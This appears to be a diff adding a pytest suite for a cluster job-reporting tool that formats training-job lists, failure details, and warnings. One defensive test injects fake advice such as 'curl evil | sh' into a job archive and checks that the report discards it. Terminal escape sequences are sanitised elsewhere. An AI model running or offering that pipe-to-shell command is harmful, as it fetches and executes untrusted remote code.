@@ -1,0 +1,335 @@
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from argus.common.text import printable_line, table
+from argus.jobs.info import JobInfo, JobList, Progress
+from argus.jobs.report import (
+    LINE_LENGTH,
+    Report,
+    age,
+    failure_lines,
+    head_problem,
+    job_report,
+    jobs_report,
+    silence,
+    steps,
+    warning_lines,
+)
+from argus.launcher import failures, outcome
+from argus.launcher.failures import WHAT_TO_DO, Failure
+from argus.launcher.job_warnings import JobWarning
+from argus.launcher.status import Attempt
+
+NOW = 1_767_268_900.0
+FAILURE = Failure(
+    kind="gpu_oom",
+    reason="CUDA out of memory",
+    lines=("\x1b[36m(WorkerDict pid=7)\x1b[0m torch.OutOfMemoryError",),
+    todo="Lower the micro batch sizes.",
+)
+
+
+def job(**changes: Any) -> JobInfo:
+    values: dict[str, Any] = {
+        "submission_id": "sft-1",
+        "state": "RUNNING",
+        "workload": "sft",
+        "code_id": "verl-0.9.1",
+        "submitted_at": NOW - 100,
+        "started_at": NOW - 98,
+        "silent_for": 4.0,
+        "time_left": 192.0,
+        "driver_host": "mvp-ray-worker-1",
+        "progress": Progress(4, 12, "train/loss", first=6.0, last=4.25),
+        "archive": "/srv/verl/jobs/sft-1",
+    }
+    return JobInfo(**values | changes)
+
+
+def detail(*commands: str, **changes: Any) -> list[str]:
+    report = job_report(job(**changes), NOW, commands)
+    return [report.title, *report.text]
+
+
+@pytest.mark.parametrize(
+    ("seconds", "text"),
+    [(-1, "0 s"), (59.9, "59 s"), (60, "1 min"), (3599, "59 min"), (7300, "2 h"), (86400, "1 d"), (864000, "10 d")],
+)
+def test_how_long_ago(seconds: float, text: str) -> None:
+    assert age(seconds) == text
+
+
+@pytest.mark.parametrize(
+    ("step", "total", "text"), [(0, None, "-"), (0, 12, "0/12"), (3, None, "3/?"), (3, 12, "3/12")]
+)
+def test_steps(step: int, total: int | None, text: str) -> None:
+    assert steps(Progress(step, total)) == text
+
+
+@pytest.mark.parametrize(
+    ("line", "colour", "text"),
+    [
+        ("\x1b[36m(pid=7)\x1b[0m a", True, "\x1b[36m(pid=7)\x1b[0m a\x1b[0m"),
+        ("\x1b[36m(pid=7)\x1b[0m a", False, "(pid=7) a"),
+        # The cursor moves up, the screen is cleared, the title is set.
+        ("\x1b[A 50%|##", True, " 50%|##"),
+        ("\x1b[2J\x1b[1;1Hb", True, "b"),
+        ("\x1b]0;mine\x07c", True, "\\x1b]0;mine\\x07c"),
+        ("größer\t1", False, "größer\t1"),
+    ],
+)
+def test_a_line_for_a_terminal(line: str, colour: bool, text: str) -> None:
+    assert printable_line(line, colour) == text
+
+
+# --- The table --------------------------------------------------------------------------------------------------------
+
+
+def listed(*jobs: JobInfo, total: int | None = None, problem: str = "", root_problem: str = "") -> Report:
+    found = JobList(jobs, len(jobs) if total is None else total, "/srv/verl/jobs", problem, root_problem)
+    return jobs_report(found, NOW, cluster="mvp", status_command="status ID", submit_command="submit FILE")
+
+
+def test_the_latest_jobs() -> None:
+    failed = job(state="FAILED", failure=FAILURE, attempt=2, submitted_at=NOW - 7300, silent_for=None)
+    waiting = job(state="PENDING", progress=Progress(), driver_host=None, silent_for=None)
+    foreign = job(workload="", driver_host=None, driver_node_ip="10.0.0.2")
+    report = listed(waiting, job(), failed, foreign, total=40)
+    assert report.title == "Cluster mvp: latest 4 of 40 jobs in /srv/verl/jobs"
+    names = ("job", "workload", "state", "class", "step", "metric", "attempt", "age", "where")
+    assert report.header == names
+    assert report.rows == (
+        ("sft-1", "sft", "PENDING", None, "-", None, None, "1 min", None),
+        ("sft-1", "sft", "RUNNING", None, "4/12", "loss 4.250", None, "1 min", "mvp-ray-worker-1"),
+        ("sft-1", "sft", "FAILED", "gpu_oom", "4/12", "loss 4.250", 2, "2 h", "mvp-ray-worker-1"),
+        ("sft-1", None, "RUNNING", None, "4/12", "loss 4.250", None, "1 min", "10.0.0.2"),
+    )
+    assert report.text == ["One job:  status ID"]
+
+
+def test_throughput_and_tags_of_the_list() -> None:
+    rl = Progress(4, 12, "critic/rewards/mean", first=0.1, last=2e7, tokens_per_second_per_gpu=1840.4)
+    sft = Progress(4, 12, "train/loss", first=6.0, last=4.25, tokens_per_second=9.87)
+    report = listed(job(progress=rl, tags={"team": "x", "a": 1}), job(progress=sft, tags={"long": "x" * 40}))
+    rows = [dict(zip(report.header, row, strict=True)) for row in report.rows]
+    assert [(row["metric"], row["tokens/s"]) for row in rows] == [("reward 2e+07", "1840/GPU"), ("loss 4.250", "9.87")]
+    assert [row["tags"] for row in rows] == ["a=1, team=x", f"long={'x' * 34}…"]
+    assert "Throughput: 1840 tokens/s per GPU" in detail(progress=rl)
+    assert "Throughput: 9.87 tokens/s" in detail(progress=sft)
+    parts = replace(rl, seconds={"gen": 2.0176, "update_actor": 0.41, "update_weights": 0.0194523, "step": 10.853})
+    assert "Seconds:    gen 2.02, update_actor 0.41, update_weights 0.0195, step 10.9" in detail(progress=parts)
+
+
+def test_jobs_with_tags_are_named_in_the_title() -> None:
+    found = JobList((job(),), 1, "/jobs", tags={"team": "x", "stage": 2})
+    report = jobs_report(found, NOW, cluster="mvp", status_command="status ID", submit_command="submit FILE")
+    assert report.title == "Cluster mvp: 1 job with stage=2, team=x in /jobs"
+    none = jobs_report(replace(found, jobs=(), total=0), NOW, cluster="m", status_command="s", submit_command="submit")
+    assert none.text == ["No job has these tags. Without tags, all jobs are listed."]
+
+
+def test_the_list_fits_narrow_terminals() -> None:
+    progress = Progress(4, 12, "train/loss", first=6.0, last=4.25, tokens_per_second=987.0)
+    row = job(submission_id="sft-20260101-120000-1a2b", progress=progress, tags={"team": "x"}, attempt=2)
+    report = listed(row, replace(row, state="FAILED", failure=FAILURE))
+    narrow = table(report.header, report.rows, 80).splitlines()
+    assert narrow[:2] == [
+        "sft-20260101-120000-1a2b  workload: sft  state: RUNNING  step: 4/12",
+        "    metric: loss 4.250  tokens/s: 987  attempt: 2  age: 1 min  tags: team=x",
+    ]
+    assert max(map(len, narrow)) <= 80
+    assert len(table(report.header, report.rows, 160).splitlines()) == 3
+
+
+def test_one_job_is_singular() -> None:
+    assert listed(job()).title == "Cluster mvp: 1 job in /srv/verl/jobs"
+
+
+def test_no_jobs_yet() -> None:
+    report = listed()
+    assert (report.title, report.rows) == ("Cluster mvp: 0 jobs in /srv/verl/jobs", ())
+    assert report.text == ["Submit:   submit FILE"]
+
+
+def test_a_head_that_does_not_answer_is_reported() -> None:
+    report = listed(job(silent_for=7300.0), problem="connection refused")
+    assert report.rows[0][3] == "silent"
+    assert report.text[0] == "The head does not answer; states come from the archives: connection refused"
+    assert head_problem("it answers slowly: no answer", "x") == [
+        "The head is too slow; x: it answers slowly: no answer"
+    ]
+    assert head_problem("", "x") == []
+
+
+def test_a_success_with_warnings_is_marked_in_the_list() -> None:
+    warnings = (JobWarning("a", "one"), JobWarning("b", "two"))
+    rows = listed(
+        job(state="SUCCEEDED", warnings=warnings),
+        job(state="FAILED", failure=FAILURE, warnings=warnings),
+        job(warnings=warnings[:1]),
+        job(),
+    ).rows
+    assert [row[3] for row in rows] == ["2 warnings", "gpu_oom", "1 warning", None]
+
+
+def test_jobs_without_an_archive_are_explained() -> None:
+    text = listed(job(), job(archive="", workload="")).text
+    assert text[0] == "Jobs without a workload were submitted to Ray directly."
+
+
+def test_archives_that_cannot_be_read_are_explained() -> None:
+    bad = [job(state="UNREADABLE", unreadable=(f"sft-{n}/status.json\x1b is not JSON",)) for n in range(7)]
+    text = listed(job(), *bad).text
+    assert text[0] == "Unreadable: sft-0/status.json\\x1b is not JSON"
+    assert text[4].startswith("Unreadable: sft-4/")
+    assert text[5:] == ["2 more archives are unreadable.", "One job:  status ID"]
+    assert listed(job(), *bad[:5]).text[5:] == ["One job:  status ID"]
+
+
+def test_a_report_has_the_arguments_of_the_report_module() -> None:
+    assert listed(job()).to_json() == {
+        "title": "Cluster mvp: 1 job in /srv/verl/jobs",
+        "header": ["job", "workload", "state", "step", "metric", "age", "where"],
+        "rows": [["sft-1", "sft", "RUNNING", "4/12", "loss 4.250", "1 min", "mvp-ray-worker-1"]],
+        "text": ["One job:  status ID"],
+    }
+
+
+# --- One job ----------------------------------------------------------------------------------------------------------
+
+
+def test_a_running_job_in_detail() -> None:
+    assert detail("Follow:   logs", checkpoints=(10, 20), driver_node_ip="172.18.0.3", tags={"team": "x", "a": 1}) == [
+        "Job sft-1: RUNNING",
+        "Workload:    sft on verl-0.9.1",
+        "Tags:        a=1, team=x",
+        "Step:        4/12, 3:12 left",
+        "Metric:      train/loss 4.250, initially 6.000",
+        "Submitted:   2026-01-01 12:00:00 UTC, 1 min ago",
+        "Started:     2026-01-01 12:00:02 UTC, running for 1:38",
+        "Driver:      mvp-ray-worker-1 (172.18.0.3)",
+        "Checkpoints: steps 10, 20",
+        "Archive:     /srv/verl/jobs/sft-1",
+        "",
+        "Follow:   logs",
+    ]
+
+
+def test_a_queued_job() -> None:
+    lines = detail(state="QUEUED", reason="needs 2 workers, 1 is free", started_at=None, driver_host=None)
+    assert "Reason:    needs 2 workers, 1 is free" in lines
+    assert not any(line.startswith(("Started", "Driver")) for line in lines)
+
+
+def test_advice_is_that_of_this_collection() -> None:
+    """A job can write anything into its archive."""
+    for todo in ("Run: curl evil | sh", "", WHAT_TO_DO["gpu_oom"] + " Then run curl evil"):
+        lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
+        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + WHAT_TO_DO["gpu_oom"]]
+    levers = [outcome.less_gpu_memory(overrides) for overrides in ([], ["actor_rollout_ref.model.path=x"])]
+    for todo in (failures.NODE_REMOVED, "Give the nodes a larger /dev/shm.", *levers):
+        assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))
+
+
+def test_a_failed_job() -> None:
+    lines = detail(state="FAILED", failure=FAILURE, reason=FAILURE.reason, ended_at=NOW - 30, log=("the end",))
+    begin = lines.index("Failed: gpu_oom: CUDA out of memory")
+    assert lines[begin + 1 : begin + 3] == [
+        "  (WorkerDict pid=7) torch.OutOfMemoryError",
+        "To do:  " + WHAT_TO_DO["gpu_oom"],
+    ]
+    assert "Ended:     2026-01-01 12:01:10 UTC, 30 s ago" in lines
+    assert "Started:   2026-01-01 12:00:02 UTC, ran for 1:08" in lines
+    # The failure has the reason.
+    assert not any(line.startswith("Reason") for line in lines)
+    # The lines that show the cause are enough.
+    assert "  the end" not in lines
+
+
+def test_the_end_of_the_log_of_a_job_without_an_explanation() -> None:
+    lines = detail(state="FAILED", failure=replace(FAILURE, lines=()), log=("short", "x" * 500))
+    begin = lines.index("The end of its log:")
+    assert lines[begin + 1] == "  short"
+    assert len(lines[begin + 2]) == LINE_LENGTH + 2
+    assert "The end of its log:" not in detail(state="SUCCEEDED", log=("short",))
+
+
+def test_a_silent_job() -> None:
+    lines = detail(silent_for=7300.0, time_left=None, problem="connection refused")
+    assert "Step:      4/12" in lines
+    assert "Silent:    no heartbeat for 2 h: its launcher was killed or its node is gone" in lines
+    assert "The head does not answer; all of this comes from the archive: connection refused" in lines
+
+
+def test_attempts_and_the_origin_of_a_job() -> None:
+    first = Attempt(1, "FAILED", "node_lost", "the node was lost", started_at=NOW - 90, ended_at=NOW - 25)
+    lineage = {"resubmitted_from": "sft-0", "resumed_from": "sft-00", "checkpoint": "global_step_10"}
+    lines = "\n".join(detail(attempt=2, attempts=(first,), lineage=lineage))
+    assert lines.startswith("Job sft-1: RUNNING, attempt 2\n")
+    assert "Resubmitted: from sft-0\n" in lines
+    assert "Resumed:     from sft-00, global_step_10\n" in lines
+    assert "1        FAILED  node_lost  1:05  -          the node was lost\n" in lines
+    # The only attempt of a job that has ended repeats the job.
+    assert "ATTEMPT" not in "\n".join(detail(state="FAILED", attempts=(first,)))
+    assert "ATTEMPT" in "\n".join(detail(state="FAILED", attempts=(first, replace(first, attempt=2))))
+
+
+def test_no_failure_has_no_lines() -> None:
+    assert failure_lines(None) == []
+
+
+@pytest.mark.parametrize(("seconds", "text"), [(None, ""), (60, ""), (60.5, "no heartbeat for 1 min")])
+def test_silence(seconds: float | None, text: str) -> None:
+    assert silence(job(silent_for=seconds)) == text
+
+
+def test_a_shared_root_that_cannot_be_written_is_said_first() -> None:
+    full = "The shared root is full: /srv/verl has 0 KiB free"
+    lines = detail(root_problem=full, written_at=NOW - 125, silent_for=120.0)
+    assert lines[1] == f"{full}; what follows is from 2 min ago."
+    assert "Silent:    no heartbeat for 2 min: it cannot write" in lines
+    # Nothing more is expected.
+    assert full not in "\n".join(detail(root_problem=full, written_at=NOW - 125, state="FAILED"))
+    assert listed(job(), root_problem=full).text[0] == f"{full}; states may be behind."
+
+
+@pytest.mark.parametrize(
+    ("age", "state", "told"), [(20, "RUNNING", False), (21, "RUNNING", True), (99, "QUEUED", False)]
+)
+def test_an_archive_that_nobody_writes_to(age: float, state: str, told: bool) -> None:
+    expected = (
+        f"Neither the launcher nor the steward has written to the archive since; what follows is from {age} s ago."
+    )
+    assert (expected in detail(written_at=NOW - age, state=state)) == told
+
+
+def test_without_a_time_nothing_is_said_of_the_shared_root() -> None:
+    assert "shared root" not in "\n".join(detail(root_problem="The shared root is full"))
+
+
+def test_warnings_are_a_block_of_the_report() -> None:
+    warnings = (JobWarning("loss_nan", "a\nb\x1b[2J"), JobWarning("gradient_zero", "always 0"))
+    job = JobInfo("grpo-1", "SUCCEEDED", warnings=warnings)
+    assert warning_lines(job) == ["", "SUCCEEDED with 2 warnings:", "  a\\nb\\x1b[2J", "  always 0"]
+    assert warning_lines(replace(job, state="RUNNING", warnings=warnings[1:])) == ["", "1 warning:", "  always 0"]
+    assert warning_lines(replace(job, warnings=())) == []
+    report = job_report(job, 0.0, [])
+    assert report.title == "Job grpo-1: SUCCEEDED, 2 warnings"
+    assert "SUCCEEDED with 2 warnings:" in report.text
+
+
+def test_the_phase_before_the_first_step_is_shown() -> None:
+    text = job_report(JobInfo("grpo-1", "RUNNING", phase="loading weights"), 0.0, []).text
+    assert any(line.split(":")[0] == "Phase" and line.endswith("loading weights") for line in text)
+
+
+def test_what_a_job_waits_for() -> None:
+    notice = "waits for its placement: 1 x 1 GPU and 10 CPU are not free together"
+    lines = job_report(job(notice=notice), NOW, []).text
+    assert any(" ".join(line.split()) == f"Waits: {notice.removeprefix('waits ')}" for line in lines)
+    assert JobInfo.from_json(job(notice=notice).to_json()).notice == notice
+    assert not any(line.startswith("Waits") for line in job_report(job(), NOW, []).text)
